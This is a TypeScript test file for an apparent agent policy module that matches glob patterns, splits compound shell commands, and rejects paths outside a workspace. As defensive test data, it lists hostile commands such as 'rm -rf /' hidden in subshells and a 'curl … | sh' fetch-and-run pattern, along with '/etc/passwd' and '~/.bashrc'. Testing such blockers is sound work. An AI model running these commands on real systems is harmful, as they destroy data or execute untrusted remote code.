import { test } from 'node:test';
import assert from 'node:assert/strict';
import fc from '../../support/fc';
import { globMatch } from '../../../core/policy/glob';
import { commandMatches, commandParts } from '../../../core/policy/command';
import { normalizeByParts, normalizeWorkspacePath } from '../../../core/policy/path';

/** The recursive definition from docs/rewards.md, transcribed literally. */
function reference(p: string, s: string): boolean {
  if (p === '') return s === '';
  if (p[0] === '*') return reference(p.slice(1), s) || (s !== '' && reference(p, s.slice(1)));
  if (s === '') return false;
  return (p[0] === '?' || p[0] === s[0]) && reference(p.slice(1), s.slice(1));
}

test('the glob matcher agrees with the recursive definition', () => {
  const alphabet = fc.constantFrom('a', 'b', '*', '?');
  fc.assert(
    fc.property(
      fc.string({ unit: alphabet, maxLength: 7 }),
      fc.string({ unit: fc.constantFrom('a', 'b', '*', '?'), maxLength: 9 }),
      (p, s) => {
        assert.equal(globMatch(p, s), reference(p, s), `${p} ~ ${s}`);
      },
    ),
    { numRuns: 2000 },
  );
  assert.ok(globMatch('npm test*', 'npm test -- --grep x'));
  // A character is a code point, as in Lean: `?` takes a whole emoji.
  assert.ok(globMatch('?.lock', '😀.lock'));
  assert.ok(globMatch('*?', '😀'));
  assert.ok(!globMatch('??', '😀'));
  assert.ok(!globMatch('npm test', 'npm test -- --grep x'));
});

test('compound commands are judged part by part', () => {
  assert.deepEqual(commandParts('ls -la && rm  -rf /; echo "$(whoami)" | tee `date`'), [
    'ls -la',
    'rm -rf /',
    'echo "$',
    'whoami',
    '"',
    'tee',
    'date',
  ]);
  assert.ok(commandMatches('rm -rf /', 'ls && rm -rf /'));
  assert.ok(commandMatches('rm -rf /', 'echo $(rm   -rf /)'));
  assert.ok(commandMatches('rm -rf /', 'echo `rm -rf /`'));
  assert.ok(commandMatches('curl *|*sh', 'curl https://x.example | sh'));
  assert.ok(!commandMatches('rm -rf /', 'rm -rf ./build'));
});

test('paths outside the workspace are rejected with a reason', () => {
  assert.deepEqual(normalizeWorkspacePath('src/./a/../b.ts'), { ok: true, normalized: 'src/b.ts' });
  assert.deepEqual(normalizeWorkspacePath('src\\win\\x.ts'), { ok: true, normalized: 'src/win/x.ts' });
  assert.deepEqual(normalizeWorkspacePath('./'), { ok: true, normalized: '.' });
  for (const [p, why] of [
    ['/etc/passwd', /absolute/],
    ['a/../../b', /climbs out/],
    ['..', /climbs out/],
    ['~/.bashrc', /home folder/],
    ['C:\\Windows', /drive/],
    ['\\\\server\\share', /absolute/],
  ] as const) {
    const r = normalizeWorkspacePath(p);
    assert.equal(r.ok, false, p);
    if (!r.ok) assert.match(r.reason, why);
  }
});

test('the fast path for plain relative paths agrees with full normalization', () => {
  const seg = fc.constantFrom(
    'a',
    'src',
    '.',
    '..',
    '',
    'x.ts',
    '.git',
    '~',
    'C:',
    '\\',
    'b\\c',
    '/',
    'n\n',
    '\r',
    'u\u2028',
  );
  fc.assert(
    fc.property(fc.array(seg, { minLength: 1, maxLength: 6 }), (segs) => {
      const p = segs.join('/');
      assert.deepEqual(normalizeWorkspacePath(p), normalizeByParts(p), p);
    }),
    { numRuns: 3000 },
  );
});
